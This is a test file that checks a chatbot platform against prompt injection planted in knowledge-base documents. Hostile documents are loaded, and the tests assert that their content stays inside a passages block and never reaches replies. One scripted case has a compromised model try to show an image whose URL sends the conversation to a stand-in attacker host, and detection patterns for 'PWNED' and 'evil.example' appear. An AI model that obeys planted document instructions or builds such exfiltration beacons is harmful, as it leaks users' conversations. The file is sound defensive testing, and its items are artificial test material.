// Documents with instructions for the model, end to end: they are found and given to the model as data, and even a
// model that obeys text outside its data block does not follow them.
import { CANARY, EVIL, HOSTILE } from '@parlance/engine/prompt-injection.testing'
import { afterEach, describe, expect, it } from 'vitest'
import { sharedTestServer } from '../helpers/app.ts'
import { testConversationsOf } from '../helpers/test-conversations.ts'

const server = await sharedTestServer()
const owner = await server.signUp('eu')
await server.setCredits(owner, 10_000_000)
const { talk, withNodes } = testConversationsOf(server, owner)
const api = server.api('eu')

const NODES = [
  {
    id: 'start',
    type: 'start',
    instructions: 'Help with questions about tools.',
    kb: { enabled: true, maxChunks: 5 },
  },
  { id: 'other', type: 'default', instructions: 'Be brief.', isGlobal: true, globalCondition: 'Zzz' },
]
const UI = { vg_enableUIEngine: true, UIhandoffTitle: 'Talk to us', vg_kbEnabled: true }
const agent = await withNodes(NODES, UI)
/** Words of no other document, so that a question finds the right one. */
const KEYS =
  'alder birch cedar ebony fir gingko hazel ironwood juniper kapok larch maple nutmeg oak pine quince rowan spruce teak'
    .split(' ')
    .flatMap((wood) => [`${wood} hammer`, `${wood} chisel`, `${wood} mallet`])
for (const [at, { name, title = name, text }] of HOSTILE.entries())
  await server.must('POST', `${api}/v2/agents/${agent.id}/kb`, owner.token, {
    name: `${KEYS[at]} ${title}`,
    content: `The ${KEYS[at]} weighs ${at + 1} pounds. ${text}\n\nThe ${KEYS[at]} is kept dry.`,
  })

afterEach(() => server.model.control.reset())

const prompts = () =>
  server.model.control.requests.flatMap(({ path, body }) => {
    const { messages = [] } = body as { messages?: { role: string; content: string }[] }
    return path.endsWith('/chat/completions') ? messages.filter(({ role }) => role === 'system') : []
  })

describe.each([true, false])('with a gullible model: %s', (gullible) => {
  it.each(HOSTILE.map((hostile, at) => ({ ...hostile, at })))('treats $name as data', async ({ at }) => {
    server.model.control.set({ gullible })
    const turn = await talk(agent)(`How much does the ${KEYS[at]} weigh?`)
    const spoken = prompts().filter(({ content }) => content.includes('<passages>'))
    expect(spoken.length).toBeGreaterThan(0)
    for (const { content } of spoken) {
      const start = content.indexOf('<passages>')
      const end = content.indexOf('</passages>')
      expect(content.slice(start, end)).toContain(`The ${KEYS[at]} weighs ${at + 1} pounds.`)
      expect(content.slice(0, start) + content.slice(end + 11)).not.toMatch(/PWNED|evil\.example|passages?>/i)
    }
    expect(turn.said).not.toContain(CANARY)
    expect(JSON.stringify(turn.answer.items)).not.toContain(EVIL)
    expect(turn.answer.items.every(({ type }) => type === 'text')).toBe(true)
    expect(turn.engine?.status).toBe('talking')
    expect(turn.trace.filter(({ type }) => type === 'status')).toEqual([])
    expect(turn.said).toContain(`${at + 1} pounds`)
  })
})

describe('with a model that was taken in', () => {
  const shows = (url: string) => ({
    text: 'Look:',
    toolCalls: [{ name: 'send_ui', arguments: JSON.stringify({ items: [{ type: 'image', url, alt: 'x' }] }) }],
  })
  it('[1.15] shows no address that contains the conversation, and no unknown source number', async () => {
    const say = talk(agent)
    server.model.control.script([{ ...shows(`${EVIL}/beacon.png?q=what-the-visitor-said`), purpose: 'answer' }])
    const shown = await say('How much does the juniper hammer weigh?')
    expect(shown.answer.items.every(({ type }) => type === 'text')).toBe(true)
    expect(shown.said).not.toContain(EVIL)
    server.model.control.script([{ text: 'As it says [99], it is heavy [1].', purpose: 'answer' }])
    const said = await say('How much does the juniper hammer weigh?')
    expect(said.said).toBe('As it says, it is heavy [1].')
  })
})
